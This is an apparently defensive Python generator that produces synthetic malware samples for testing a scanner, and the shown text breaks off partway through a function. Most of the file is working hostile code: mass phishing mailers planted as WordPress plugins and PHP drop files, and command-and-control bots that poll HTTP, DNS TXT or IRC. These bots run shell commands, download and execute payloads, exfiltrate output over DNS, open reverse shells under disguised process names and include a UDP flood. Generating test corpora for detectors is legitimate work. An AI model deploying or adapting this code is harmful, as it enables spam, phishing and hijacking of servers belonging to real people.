"""train8 mailers and bots, in shapes a scanner's authors may not expect:
WordPress cron senders, imap_mail/mb_send_mail, exim/sendmail pipes through
proc_open, Perl Net::SMTP, Python threads, Node CLI senders; bots polling by
asyncio, DNS TXT, PHP CLI daemons, Perl IRC, Node TLS back-connects, cron
re-installers, xmlrpc guessers. Written blind (README.md)."""

from t8_common import T, rw, hx, ip, dom, b64, F, wp_filler, plugin_header, PLUGS


def _subj(r):
    return r.choice(("{Your|Ur} account {notice|alert} #[num]", "Invoice [num] {is ready|attached}",
                     "{Action required|Important}: verify [email]", "{Hello|Hi} [name], {your parcel|a package} is waiting"))


# ------------------------------------------------------------------ mailers
def wp_cron_sender(r, v):
    slug = r.choice(PLUGS)
    pre = slug.replace("-", "_")[:12]
    hookn = "%s_%s" % (pre, rw(r, 5))
    if v == 0:
        body = T("""
add_filter('cron_schedules', function ($s) { $s['every_minute'] = ['interval' => 60, 'display' => 'Every minute']; return $s; });
if (!wp_next_scheduled('@H@')) { wp_schedule_event(time(), 'every_minute', '@H@'); }
add_action('@H@', function () {
    $q = get_option('@H@_q', []);
    $tpl = get_option('@H@_tpl', '');
    $batch = array_splice($q, 0, 40);
    foreach ($batch as $to) {
        $subj = preg_replace_callback('/\\{([^}]+)\\}/', fn($m) => ($p = explode('|', $m[1]))[array_rand($p)], '@S@');
        $subj = str_replace(['[email]', '[num]'], [$to, mt_rand(10000, 99999)], $subj);
        wp_mail($to, $subj, str_replace('[email]', $to, $tpl), ['Content-Type: text/html; charset=UTF-8', 'From: Support <support@' . parse_url(home_url(), PHP_URL_HOST) . '>']);
    }
    update_option('@H@_q', $q, false);
});
add_action('rest_api_init', function () {
    register_rest_route('@P@/v1', '/q', ['methods' => 'POST', 'permission_callback' => '__return_true', 'callback' => function ($req) {
        update_option('@H@_q', array_merge(get_option('@H@_q', []), preg_split('/\\s+/', (string) $req['list'], -1, PREG_SPLIT_NO_EMPTY)), false);
        if ($req['tpl']) { update_option('@H@_tpl', base64_decode($req['tpl']), false); }
        return ['queued' => count(get_option('@H@_q', []))];
    }]);
});
""", H=hookn, S=_subj(r), P=pre)
    elif v == 1:
        body = T("""
add_action('wp_ajax_nopriv_@H@', function () {
    $list = array_filter(array_map('trim', explode("\\n", base64_decode($_POST['l'] ?? ''))));
    $html = base64_decode($_POST['b'] ?? '');
    $from = sanitize_text_field($_POST['f'] ?? 'Service');
    add_filter('wp_mail_from_name', fn() => $from);
    $sent = 0;
    foreach ($list as $rcpt) {
        if (wp_mail($rcpt, wp_unslash($_POST['s'] ?? ''), str_ireplace('%email%', $rcpt, $html), ['Content-Type: text/html'])) { $sent++; }
        usleep(200000);
    }
    wp_send_json(['sent' => $sent, 'total' => count($list)]);
});
""", H=hookn)
    else:
        body = T("""
add_action('init', function () {
    if (!isset($_GET['@H@'])) { return; }
    global $wpdb;
    $rows = $wpdb->get_col("SELECT user_email FROM {$wpdb->users} ORDER BY ID LIMIT 2000");
    $rows = array_merge($rows, $wpdb->get_col("SELECT meta_value FROM {$wpdb->postmeta} WHERE meta_key = '_billing_email'"));
    $msg = wp_remote_retrieve_body(wp_remote_get('http://@D@/letters/' . rawurlencode($_GET['@H@']) . '.html'));
    foreach (array_unique($rows) as $em) {
        wp_mail($em, 'Security notice for ' . $em, $msg, ['Content-Type: text/html; charset=UTF-8']);
    }
    exit(count($rows) . ' ok');
});
""", H=rw(r, 4), D=dom(r))
    parts = wp_filler(r, pre, r.randint(5, 9))
    parts.insert(r.randint(1, len(parts) - 1), body)
    return [F("<?php\n" + plugin_header(r, slug) + "\n".join(parts), "wp-content/plugins/%s/%s.php" % (slug, slug), "php", "app-file")]


def alt_mail_funcs(r, v):
    a = rw(r, 3)
    if v == 0:
        code = T("""<?php
@set_time_limit(0);
$@A@ = file(__DIR__ . '/@L@', FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES);
$body = file_get_contents(__DIR__ . '/@T@');
$n = 0;
foreach ($@A@ as $to) {
    [$addr, $name] = array_pad(explode(';', $to), 2, '');
    $h = "MIME-Version: 1.0\\r\\nContent-Type: text/html; charset=utf-8\\r\\nFrom: =?UTF-8?B?" . base64_encode('Service Client') . "?= <no-reply@@D@>";
    if (imap_mail($addr, '=?UTF-8?B?' . base64_encode('Votre facture n°' . mt_rand(1000, 9999)) . '?=', str_replace('{name}', $name, $body), $h)) { $n++; }
    if ($n % 50 === 0) { sleep(2); }
}
echo "done $n\\n";
""", A=a, L=r.choice(("emails.txt", "list/fr.txt", ".l")), T=r.choice(("letter.html", "tpl.htm")), D=dom(r))
    elif v == 1:
        code = T("""<?php
mb_language('uni');
mb_internal_encoding('UTF-8');
if (!empty($_POST['to'])) {
    $rcpts = preg_split('/[\\s,;]+/', $_POST['to'], -1, PREG_SPLIT_NO_EMPTY);
    foreach ($rcpts as $i => $to) {
        $ok = mb_send_mail($to, $_POST['subj'], $_POST['msg'], 'From: ' . $_POST['from'] . "\\r\\nContent-Type: text/html; charset=UTF-8");
        echo ($i + 1) . ' ' . htmlspecialchars($to) . ' ' . ($ok ? 'OK' : 'FAIL') . "<br>\\n";
        flush();
    }
    exit;
}
?>
<form method="post"><input name="from" size="40"><input name="subj" size="60"><br>
<textarea name="msg" rows="10" cols="80"></textarea><br><textarea name="to" rows="10" cols="40"></textarea><br>
<input type="submit" value="&#x25B6;"></form>
""")
    else:
        code = T("""<?php
$@A@ = json_decode(base64_decode($_POST['j'] ?? ''), true) ?: [];
$mta = is_executable('/usr/sbin/exim') ? '/usr/sbin/exim -t -i' : '/usr/sbin/sendmail -t -i';
foreach (($@A@['rcpt'] ?? []) as $to) {
    $p = proc_open($mta, [0 => ['pipe', 'r'], 1 => ['pipe', 'w']], $pipes);
    if (!is_resource($p)) { continue; }
    fwrite($pipes[0], "To: $to\\nFrom: {$@A@['from']}\\nSubject: {$@A@['subj']}\\nX-Priority: 1\\nContent-Type: text/html; charset=utf-8\\n\\n" . str_replace('##EMAIL##', $to, $@A@['html']) . "\\n");
    fclose($pipes[0]);
    fclose($pipes[1]);
    proc_close($p);
}
echo count($@A@['rcpt'] ?? []);
""", A=a)
    return [F(code, r.choice(("wp-content/uploads/%s.php" % hx(r, 6), "%s.php" % rw(r, 5), "tmp/%s.php" % rw(r, 4))), "php", "plain")]


def perl_net_smtp(r, v):
    host = r.choice(("mail.example.net", "smtp.example.com", "203.0.113.25"))
    if v == 0:
        code = T("""#!/usr/bin/perl
use strict;
use warnings;
use Net::SMTP;

my @smtps = map { chomp; [split /\\|/] } grep { /\\|/ } do { open my $f, '<', 'smtps.txt' or die; <$f> };
open my $L, '<', $ARGV[0] || 'list.txt' or die "list";
my $tpl = do { local $/; open my $t, '<', 'msg.html' or die; <$t> };
my $i = 0;
while (my $to = <$L>) {
    chomp $to;
    next unless $to =~ /\\@/;
    my ($h, $u, $p) = @{ $smtps[$i++ % @smtps] };
    my $s = Net::SMTP->new($h, Port => 587, Timeout => 20) or next;
    $s->starttls() if $s->can('starttls');
    $s->auth($u, $p) or next;
    $s->mail($u);
    $s->to($to);
    (my $body = $tpl) =~ s/%EMAIL%/$to/g;
    $s->data("From: Support <$u>\\r\\nTo: $to\\r\\nSubject: Account update\\r\\nContent-Type: text/html\\r\\n\\r\\n$body");
    $s->quit;
    print "$i $to\\n";
}
""")
        rel = r.choice(("perl/send.pl", ".x/s.pl", "tmp/%s.pl" % rw(r, 4)))
    elif v == 1:
        code = T("""#!/usr/bin/perl
use IO::Socket::INET;
my ($list, $from, $subj) = @ARGV;
open(my $fh, '<', $list) or die;
my @to = <$fh>;
my $pid;
for my $chunk (0 .. 4) {
    next if ($pid = fork());
    for (my $k = $chunk; $k < @to; $k += 5) {
        my $r = $to[$k];
        chomp $r;
        my $s = IO::Socket::INET->new(PeerAddr => '@H@', PeerPort => 25, Proto => 'tcp', Timeout => 15) or next;
        <$s>;
        print $s "HELO @D@\\r\\n"; <$s>;
        print $s "MAIL FROM:<$from>\\r\\n"; <$s>;
        print $s "RCPT TO:<$r>\\r\\n"; <$s>;
        print $s "DATA\\r\\n"; <$s>;
        print $s "From: $from\\r\\nTo: $r\\r\\nSubject: $subj\\r\\n\\r\\nDear customer,\\r\\nplease confirm at http://@D@/c?u=$r\\r\\n.\\r\\n"; <$s>;
        print $s "QUIT\\r\\n";
        close $s;
    }
    exit 0;
}
1 while wait() != -1;
""", H=host, D=dom(r))
        rel = r.choice((".cache/m", "bin/%s" % rw(r, 4), "perl5/%s.pl" % rw(r, 3)))
    else:
        code = T("""#!/usr/bin/perl
use Net::SMTP;
use MIME::Base64;
$| = 1;
my $q = $ENV{QUERY_STRING} || '';
print "Content-type: text/plain\\n\\n";
my %p = map { my ($k, $v) = split /=/; $v =~ tr/+/ /; $v =~ s/%(..)/chr hex $1/ge; $k => $v } split /&/, $q;
my $smtp = Net::SMTP->new('localhost') or die "no smtp";
for my $to (split /,/, decode_base64($p{l} || '')) {
    $smtp->mail($p{f});
    $smtp->to($to);
    $smtp->data();
    $smtp->datasend("From: $p{f}\\nTo: $to\\nSubject: " . decode_base64($p{s}) . "\\nContent-Type: text/html\\n\\n");
    $smtp->datasend(decode_base64($p{b}));
    $smtp->dataend();
    print "$to ok\\n";
}
$smtp->quit;
""")
        rel = "cgi-bin/%s.cgi" % r.choice(("form", "notify", rw(r, 5)))
    return [F(code, rel, "perl", "script")]


def python_threads_smtp(r, v):
    if v == 0:
        code = T("""#!/usr/bin/env python3
import csv, random, smtplib, sys, threading, time
from email.mime.text import MIMEText
from queue import Queue

q = Queue()
SMTPS = [l.strip().split(':') for l in open('smtp.txt') if l.count(':') >= 3]
BODY = open(sys.argv[2] if len(sys.argv) > 2 else 'letter.html').read()


def worker():
    while True:
        row = q.get()
        host, port, user, pw = random.choice(SMTPS)[:4]
        try:
            s = smtplib.SMTP(host, int(port), timeout=20)
            s.starttls()
            s.login(user, pw)
            m = MIMEText(BODY.replace('{name}', row.get('name', '')), 'html')
            m['Subject'] = 'Your order #%d' % random.randint(100000, 999999)
            m['From'] = 'Orders <%s>' % user
            m['To'] = row['email']
            s.sendmail(user, [row['email']], m.as_string())
            s.quit()
            print('ok', row['email'])
        except Exception as e:
            print('err', row['email'], e)
        q.task_done()


for _ in range(@N@):
    threading.Thread(target=worker, daemon=True).start()
for row in csv.DictReader(open(sys.argv[1])):
    q.put(row)
q.join()
""", N=r.choice((10, 20, 30)))
    elif v == 1:
        code = T("""import smtplib, ssl, os, time
from email.message import EmailMessage

LEADS = os.path.expanduser('~/.local/share/@D@/leads')
done = set(open(LEADS + '.done').read().split()) if os.path.exists(LEADS + '.done') else set()
ctx = ssl.create_default_context()
with smtplib.SMTP_SSL('@H@', 465, context=ctx) as s:
    s.login('@U@', '@P@')
    for addr in open(LEADS).read().split():
        if addr in done:
            continue
        m = EmailMessage()
        m['From'] = 'Billing Team <@U@>'
        m['To'] = addr
        m['Subject'] = 'Payment declined - update required'
        m.set_content('Please update your details: https://@L@/u/?e=' + addr)
        s.send_message(m)
        open(LEADS + '.done', 'a').write(addr + '\\n')
        time.sleep(1.5)
""", D=rw(r, 5), H=r.choice(("smtp.example.com", "mail.example.org")), U="%s@example.net" % rw(r, 5), P=rw(r, 12), L=dom(r))
    else:
        code = T("""#!/usr/bin/python3
import cgi, smtplib, sys
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText

print("Content-Type: text/plain\\n")
f = cgi.FieldStorage()
s = smtplib.SMTP('127.0.0.1', 25)
for to in f.getfirst('l', '').split():
    msg = MIMEMultipart('alternative')
    msg['Subject'] = f.getfirst('s', '')
    msg['From'] = f.getfirst('f', '')
    msg['To'] = to
    msg['Reply-To'] = f.getfirst('r', msg['From'])
    msg.attach(MIMEText(f.getfirst('b', '').replace('[to]', to), 'html'))
    s.sendmail(msg['From'], [to], msg.as_string())
    print('sent', to)
    sys.stdout.flush()
s.quit()
""")
    rel = r.choice(("%s.py" % rw(r, 5), ".local/bin/%s" % rw(r, 4), "public_html/cgi-bin/%s.py" % rw(r, 5)))
    return [F(code, rel, "python", "script")]


def node_cli_sender(r, v):
    if v == 0:
        code = T("""#!/usr/bin/env node
const fs = require('fs');
const nodemailer = require('nodemailer');
const [,, list, tpl] = process.argv;
const hosts = JSON.parse(fs.readFileSync(__dirname + '/smtp.json', 'utf8'));
const body = fs.readFileSync(tpl || 'index.html', 'utf8');
(async () => {
  let i = 0;
  for (const to of fs.readFileSync(list, 'utf8').split(/\\r?\\n/).filter(Boolean)) {
    const h = hosts[i++ % hosts.length];
    const t = nodemailer.createTransport({ host: h.host, port: h.port, secure: h.port === 465, auth: { user: h.user, pass: h.pass } });
    try {
      await t.sendMail({ from: `"${h.name}" <${h.user}>`, to, subject: 'Delivery attempt failed', html: body.replace(/{{email}}/g, to) });
      console.log('[+]', i, to);
    } catch (e) { console.log('[-]', to, e.code); }
  }
})();
""")
    elif v == 1:
        code = T("""const net = require('net');
const fs = require('fs');
const rcpts = fs.readFileSync(process.argv[2], 'utf8').trim().split('\\n');
function send(to) {
  return new Promise((res) => {
    const s = net.connect(25, '@H@');
    const lines = ['EHLO @D@', 'MAIL FROM:<info@@D@>', `RCPT TO:<${to}>`, 'DATA',
      `Subject: Account suspended\\r\\nFrom: info@@D@\\r\\nTo: ${to}\\r\\n\\r\\nVerify: https://@D@/v\\r\\n.`, 'QUIT'];
    s.on('data', () => { const l = lines.shift(); if (l) s.write(l + '\\r\\n'); else s.end(); });
    s.on('close', res);
    s.on('error', res);
  });
}
(async () => { for (const t of rcpts) await send(t.trim()); })();
""", H=r.choice(("127.0.0.1", "mx.example.net")), D=dom(r))
    else:
        code = T("""import { readFile } from 'node:fs/promises';
const key = process.env.SG_KEY || 'SG.@K@';
const list = (await readFile(process.argv[2], 'utf8')).split(/\\s+/).filter(Boolean);
const html = await readFile('letter.html', 'utf8');
for (let i = 0; i < list.length; i += 500) {
  const personalizations = list.slice(i, i + 500).map((email) => ({ to: [{ email }] }));
  const r = await fetch('https://api.sendgrid.com/v3/mail/send', {
    method: 'POST',
    headers: { Authorization: `Bearer ${key}`, 'Content-Type': 'application/json' },
    body: JSON.stringify({ personalizations, from: { email: 'alert@@D@', name: 'Security' }, subject: 'Unusual sign-in', content: [{ type: 'text/html', value: html }] }),
  });
  console.log(i, r.status);
}
""", K=rw(r, 22, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") + "." + rw(r, 43, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"), D=dom(r))
        return [F(code, r.choice(("send.mjs", ".npm/%s.mjs" % rw(r, 4), "node_modules/.cache/%s.mjs" % hx(r, 6))), "js", "script")]
    return [F(code, r.choice(("index.js", ".npm/%s.js" % rw(r, 4), "nodeapp/%s.js" % rw(r, 5))), "js", "script")]


def remote_letter_sender(r, v):
    a = rw(r, 3)
    src = ("file_get_contents", "curl", "fsock")[v]
    if src == "file_get_contents":
        fetch = "$tpl = @file_get_contents('http://%s/l/' . ($_GET['t'] ?? 'a') . '.txt');\n$list = @file_get_contents('http://%s/l/list_' . ($_GET['p'] ?? '1') . '.txt');" % (dom(r), dom(r))
    elif src == "curl":
        fetch = ("function g($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); curl_setopt($c, CURLOPT_TIMEOUT, 30); $r = curl_exec($c); curl_close($c); return $r; }\n"
                 "$tpl = g('https://%s/api/letter?id=' . urlencode($_GET['t'] ?? ''));\n$list = g('https://%s/api/batch?n=' . (int) ($_GET['p'] ?? 0));" % (dom(r), dom(r)))
    else:
        fetch = ("$fp = fsockopen('%s', 80, $en, $es, 20);\nfwrite($fp, \"GET /job HTTP/1.0\\r\\nHost: %s\\r\\n\\r\\n\");\n$raw = stream_get_contents($fp);\nfclose($fp);\n"
                 "[, $json] = explode(\"\\r\\n\\r\\n\", $raw, 2);\n$job = json_decode($json, true);\n$tpl = base64_decode($job['b']);\n$list = implode(\"\\n\", $job['to']);" % (ip(r), dom(r)))
    code = T("""<?php
error_reporting(0);
ignore_user_abort(true);
set_time_limit(0);
@FETCH@
$@A@ = 0;
foreach (array_filter(explode("\\n", (string) $list)) as $to) {
    $to = trim($to);
    $dom = substr($to, strpos($to, '@') + 1);
    $b = strtr($tpl, ['[EMAIL]' => $to, '[DOMAIN]' => $dom, '[DATE]' => date('d/m/Y'), '[RAND]' => md5(mt_rand())]);
    $bnd = md5(uniqid());
    $h = "From: \\"" . ucfirst(explode('.', $dom)[0]) . " IT\\" <it-support@$dom>\\r\\nX-Mailer: Microsoft Outlook 16.0\\r\\nMIME-Version: 1.0\\r\\n";
    $h .= "Content-Type: multipart/alternative; boundary=\\"$bnd\\"\\r\\n";
    $m = "--$bnd\\r\\nContent-Type: text/html; charset=UTF-8\\r\\nContent-Transfer-Encoding: base64\\r\\n\\r\\n" . chunk_split(base64_encode($b)) . "--$bnd--";
    if (mail($to, 'Mailbox quota exceeded - ' . $to, $m, $h, '-f it-support@' . $dom)) { $@A@++; }
}
echo 'SENT:' . $@A@;
""", FETCH=fetch, A=a)
    return [F(code, r.choice(("wp-includes/%s.php" % rw(r, 6), "%s.php" % hx(r, 8), "images/%s.php" % rw(r, 4))), "php", "plain")]


def ini_smtp_override(r, v):
    """ini_set SMTP/sendmail_path tricks, or mail() with a hidden cron loop."""
    d = r.choice(("", "wp-content/uploads/", "cache/"))
    if v == 0:
        code = T("""<?php
ini_set('SMTP', '@H@');
ini_set('smtp_port', '25');
ini_set('sendmail_from', 'service@@D@');
ini_set('mail.add_x_header', '0');
$q = __DIR__ . '/.q';
$lines = is_file($q) ? file($q, FILE_IGNORE_NEW_LINES) : [];
$todo = array_splice($lines, 0, 100);
file_put_contents($q, implode("\\n", $lines));
foreach ($todo as $t) { mail($t, base64_decode('@S@'), base64_decode('@B@'), "Content-Type: text/html\\r\\nFrom: service@@D@"); }
""", H=r.choice(("mx.example.net", ip(r))), D=dom(r), S=b64("Your mailbox will be closed"), B=b64("<p>Click <a href='https://%s/k'>here</a></p>" % dom(r)))
        return [F(code, d + "%s.php" % r.choice(("wp-cron2", "queue", rw(r, 5))), "php", "plain"),
                F("* * * * * /usr/local/bin/php %s%s.php >/dev/null 2>&1\n" % ("$HOME/public_html/", rw(r, 5)), d + ".cron", "crontab", "persistence")]
    if v == 1:
        code = T("""<?php
$bin = '/usr/sbin/sendmail -t -i -f bounce@@D@';
$h = popen($bin, 'w');
foreach (explode(',', base64_decode($_REQUEST['r'] ?? '')) as $to) {
    fputs($h, "To: $to\\nSubject: " . ($_REQUEST['s'] ?? '') . "\\nContent-Type: text/html\\n\\n" . base64_decode($_REQUEST['b'] ?? '') . "\\n.\\n");
}
pclose($h);
""", D=dom(r))
        return [F(code, d + "%s.php" % rw(r, 6), "php", "plain")]
    ini = "sendmail_path = \"/usr/sbin/sendmail -t -i -f noreply@%s\"\nmail.add_x_header = Off\n" % dom(r)
    code = T("""<?php
foreach (array_slice(file(__DIR__ . '/@L@'), (int) ($_GET['o'] ?? 0), 200) as $to) {
    mail(trim($to), '=?UTF-8?B?' . base64_encode('Rappel : colis en attente') . '?=', file_get_contents(__DIR__ . '/m.html'), "Content-Type: text/html; charset=UTF-8\\r\\nFrom: Livraison <noreply@@D@>");
}
echo 'ok';
""", L=r.choice(("l.txt", "fr.csv")), D=dom(r))
    return [F(ini, d + ".user.ini", "ini", "user-ini"), F(code, d + "%s.php" % rw(r, 5), "php", "plain")]


MAIL_TECHS = (
    ("wp-cron-ajax-sender", wp_cron_sender, 3),
    ("imap-mb-proc-mail", alt_mail_funcs, 3),
    ("perl-net-smtp", perl_net_smtp, 3),
    ("python-smtp-threads", python_threads_smtp, 3),
    ("node-cli-sender", node_cli_sender, 3),
    ("remote-letter-mime", remote_letter_sender, 3),
    ("ini-smtp-sendmail-path", ini_smtp_override, 3),
)


# ------------------------------------------------------------------ bots
def asyncio_poll(r, v):
    c2 = "https://%s/api/%s" % (dom(r), rw(r, 4))
    if v == 0:
        code = T("""import asyncio, json, os, platform, subprocess, urllib.request, uuid

ID = str(uuid.uuid5(uuid.NAMESPACE_DNS, platform.node()))
URL = '@U@'


def http(path, data=None):
    req = urllib.request.Request(URL + path, data=json.dumps(data).encode() if data else None, headers={'User-Agent': 'Mozilla/5.0'})
    return json.loads(urllib.request.urlopen(req, timeout=30).read() or b'{}')


async def main():
    while True:
        try:
            job = await asyncio.to_thread(http, '/t?id=' + ID)
            if job.get('cmd'):
                p = await asyncio.create_subprocess_shell(job['cmd'], stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
                out, _ = await p.communicate()
                await asyncio.to_thread(http, '/r', {'id': ID, 'jid': job.get('jid'), 'out': out.decode(errors='replace')})
        except Exception:
            pass
        await asyncio.sleep(int(os.environ.get('IV', '@S@')))

if os.fork() == 0:
    os.setsid()
    asyncio.run(main())
""", U=c2, S=r.choice((30, 60, 90)))
    elif v == 1:
        code = T("""import base64, time, urllib.request, zlib
while True:
    try:
        blob = urllib.request.urlopen('@U@/c.txt', timeout=20).read()
        exec(zlib.decompress(base64.b64decode(blob)), {'__name__': '__main__'})
    except Exception:
        time.sleep(@S@)
""", U=c2, S=r.choice((45, 120, 300)))
    else:
        code = T("""import http.client, json, os, socket, subprocess, time, ssl
H = '@H@'
ctx = ssl._create_unverified_context()
while 1:
    try:
        c = http.client.HTTPSConnection(H, 443, context=ctx, timeout=25)
        c.request('POST', '/gate.php', json.dumps({'h': socket.gethostname(), 'u': os.getuid(), 'cwd': os.getcwd()}), {'Content-Type': 'application/json'})
        r = json.loads(c.getresponse().read())
        for t in r.get('tasks', []):
            if t['k'] == 'sh':
                out = subprocess.getoutput(t['v'])
            elif t['k'] == 'dl':
                open(t['p'], 'wb').write(__import__('urllib.request').request.urlopen(t['v']).read())
                os.chmod(t['p'], 0o755)
                out = 'saved'
            else:
                out = 'noop'
            c.request('POST', '/gate.php?r=' + str(t['id']), out)
            c.getresponse().read()
    except Exception:
        pass
    time.sleep(77)
""", H=dom(r))
    return [F("#!/usr/bin/env python3\n" + code, r.choice((".cache/%s.py" % rw(r, 5), ".local/lib/%s" % rw(r, 6), "tmp/.%s" % hx(r, 6),
                                                        ".config/%s/sync.py" % rw(r, 5))), "python", "script")]


def dns_txt_c2(r, v):
    zone = "%s.%s" % (rw(r, 4), r.choice(("example.net", "example.org")))
    if v == 0:
        code = T("""#!/bin/sh
while :; do
  c=$(dig +short TXT "$(hostname | md5sum | cut -c1-8).@Z@" 2>/dev/null | tr -d '"')
  if [ -n "$c" ]; then
    printf '%s' "$c" | base64 -d | sh >/tmp/.o 2>&1
    for p in $(base64 -w 60 /tmp/.o | tr '+/' '-_'); do nslookup "$p.r.@Z@" >/dev/null 2>&1; done
  fi
  sleep 120
done
""", Z=zone)
        return [F(code, r.choice((".config/%s" % rw(r, 5), "tmp/.%s.sh" % rw(r, 3), ".local/bin/%s" % rw(r, 4))), "sh", "script")]
    if v == 1:
        code = T("""#!/usr/bin/env python3
import base64, socket, struct, subprocess, time, random


def txt(name):
    q = struct.pack('>HHHHHH', random.randint(0, 65535), 0x100, 1, 0, 0, 0)
    q += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\x00' + struct.pack('>HH', 16, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(q, ('@R@', 53))
    d = s.recv(4096)
    i = d.rfind(b'\\x00\\x10\\x00\\x01') + 10
    return d[i + 3:i + 3 + d[i + 2]].decode(errors='ignore') if len(d) > i else ''


while True:
    try:
        t = txt('%08x.@Z@' % random.getrandbits(32))
        if t:
            subprocess.Popen(base64.b64decode(t).decode(), shell=True)
    except Exception:
        pass
    time.sleep(300)
""", Z=zone, R=ip(r))
        return [F(code, r.choice((".cache/%s" % rw(r, 6), "%s.py" % rw(r, 5))), "python", "script")]
    code = T("""const dns = require('dns').promises;
const { exec } = require('child_process');
const host = require('os').hostname();
async function tick() {
  try {
    const recs = await dns.resolveTxt(Buffer.from(host).toString('hex').slice(0, 16) + '.@Z@');
    const cmd = Buffer.from(recs.flat().join(''), 'base64').toString();
    if (cmd) exec(cmd, { timeout: 60000 });
  } catch (e) {}
  setTimeout(tick, 180000);
}
tick();
""", Z=zone)
    return [F(code, r.choice(("node_modules/.bin/%s.js" % rw(r, 5), ".npm/%s.js" % rw(r, 4))), "js", "script")]


def php_cli_daemon(r, v):
    if v == 0:
        code = T("""#!/usr/bin/php
<?php
if (function_exists('pcntl_fork') && pcntl_fork() !== 0) { exit(0); }
if (function_exists('posix_setsid')) { posix_setsid(); }
cli_set_process_title('[kworker/@N@:1]');
while (true) {
    $s = @stream_socket_client('tcp://@H@:@P@', $en, $es, 30);
    if ($s) {
        fwrite($s, php_uname() . "\\n");
        while (!feof($s)) {
            $c = trim((string) fgets($s));
            if ($c === '') { continue; }
            fwrite($s, (string) shell_exec($c . ' 2>&1') . "\\n$ ");
        }
        fclose($s);
    }
    sleep(60);
}
""", N=r.randint(0, 7), H=ip(r), P=r.choice((443, 8443, 53, 4443)))
    elif v == 1:
        code = T("""#!/usr/local/bin/php
<?php
$lock = sys_get_temp_dir() . '/.@L@.lock';
$fp = fopen($lock, 'c');
if (!flock($fp, LOCK_EX | LOCK_NB)) { exit; }
ignore_user_abort(true);
set_time_limit(0);
for (;;) {
    $j = @json_decode(@file_get_contents('https://@D@/q/' . gethostname()), true);
    foreach ((array) ($j['run'] ?? []) as $code) { eval(base64_decode($code)); }
    sleep((int) ($j['wait'] ?? 90));
}
""", L=hx(r, 6), D=dom(r))
    else:
        code = T("""<?php
// started from a web request: keeps running after the client leaves
ignore_user_abort(1);
set_time_limit(0);
ini_set('max_execution_time', 0);
$me = __FILE__;
$body = file_get_contents($me);
register_shutdown_function(function () use ($me, $body) {
    if (!file_exists($me)) { file_put_contents($me, $body); }
});
while (1) {
    if (!file_exists($me)) { file_put_contents($me, $body); }
    $t = @file_get_contents('http://@H@/t.txt');
    if ($t && md5($t) !== @file_get_contents('/tmp/.@L@')) { file_put_contents('/tmp/.@L@', md5($t)); @eval($t); }
    sleep(30);
}
""", H=ip(r), L=hx(r, 5))
        return [F(code, r.choice(("wp-content/%s.php" % rw(r, 5), "%s.php" % hx(r, 6))), "php", "plain")]
    return [F(code, r.choice((".cache/%s" % rw(r, 5), "tmp/%s.php" % rw(r, 4), ".local/%s" % hx(r, 6))), "php", "script")]


def perl_irc(r, v):
    chan = "#" + rw(r, 5)
    srv = r.choice(("irc.example.net", ip(r)))
    nick = rw(r, 4) + str(r.randint(10, 999))
    if v == 0:
        code = T("""#!/usr/bin/perl
use IO::Socket::INET;
$0 = '/usr/sbin/httpd -k start';
exit if fork;
my $s = IO::Socket::INET->new(PeerAddr => '@S@', PeerPort => 6667, Proto => 'tcp') or die;
print $s "NICK @N@\\r\\nUSER @N@ 8 * :@N@\\r\\n";
while (my $l = <$s>) {
    $l =~ s/\\r?\\n$//;
    if ($l =~ /^PING (.*)/) { print $s "PONG $1\\r\\n"; next; }
    if ($l =~ / 001 /) { print $s "JOIN @C@\\r\\n"; }
    if ($l =~ /^:(\\S+)!\\S+ PRIVMSG @C@ :!x (.+)$/) {
        for my $o (split /\\n/, `$2 2>&1`) { print $s "PRIVMSG @C@ :$o\\r\\n"; select(undef, undef, undef, 0.6); }
    }
}
""", S=srv, N=nick, C=chan)
    elif v == 1:
        code = T("""#!/usr/bin/perl
use Socket;
my ($h, $p) = ('@S@', 7000);
my @nicks = map { 'u' . int(rand(99999)) } 1 .. 3;
socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
connect(S, sockaddr_in($p, inet_aton($h))) or die;
select((select(S), $| = 1)[0]);
print S "NICK $nicks[0]\\nUSER x x x :x\\nJOIN @C@ @K@\\n";
while (<S>) {
    print S "PONG $1\\n" if /^PING\\s+(.*)/;
    if (/PRIVMSG @C@ :\\.(\\w+)\\s*(.*)/) {
        my ($c, $a) = ($1, $2);
        if ($c eq 'sh') { open(my $o, "$a |"); while (<$o>) { print S "PRIVMSG @C@ :$_"; } }
        elsif ($c eq 'get') { system("wget -q -O /tmp/.f $a && chmod +x /tmp/.f && /tmp/.f &"); }
        elsif ($c eq 'udp') { my ($t, $n) = split / /, $a; socket(U, PF_INET, SOCK_DGRAM, 17); send(U, 'A' x 1024, 0, sockaddr_in(int(rand(65000)), inet_aton($t))) for 1 .. $n; }
    }
}
""", S=srv, C=chan, K=rw(r, 6))
    else:
        code = T("""#!/usr/bin/env python3
import socket, subprocess, time
S, C = '@S@', '@C@'
while True:
    try:
        s = socket.create_connection((S, 6697 if S[0].isalpha() else 6667), 30)
        s.send(b'NICK @N@\\r\\nUSER @N@ 0 * :@N@\\r\\n')
        buf = b''
        while True:
            buf += s.recv(2048)
            *lines, buf = buf.split(b'\\r\\n')
            for ln in lines:
                t = ln.decode(errors='ignore')
                if t.startswith('PING'):
                    s.send(('PONG' + t[4:] + '\\r\\n').encode())
                elif ' 376 ' in t or ' 422 ' in t:
                    s.send(('JOIN %s\\r\\n' % C).encode())
                elif 'PRIVMSG %s :@' % C in t:
                    out = subprocess.getoutput(t.split(':@', 1)[1])
                    for o in out.splitlines()[:20]:
                        s.send(('PRIVMSG %s :%s\\r\\n' % (C, o)).encode())
    except Exception:
        time.sleep(60)
""", S=srv, C=chan, N=nick)
        return [F(code, r.choice((".cache/%s" % rw(r, 4), "tmp/.%s" % rw(r, 3))), "python", "script")]
    return [F(code, r.choice((".cache/%s" % rw(r, 4), "tmp/.%s" % rw(r, 3), ".ssh/.%s" % rw(r, 4), "bin/%s.pl" % rw(r, 4))), "perl", "script")]


def node_tls_back(r, v):
    h, p = ip(r), r.choice((443, 8443, 993))
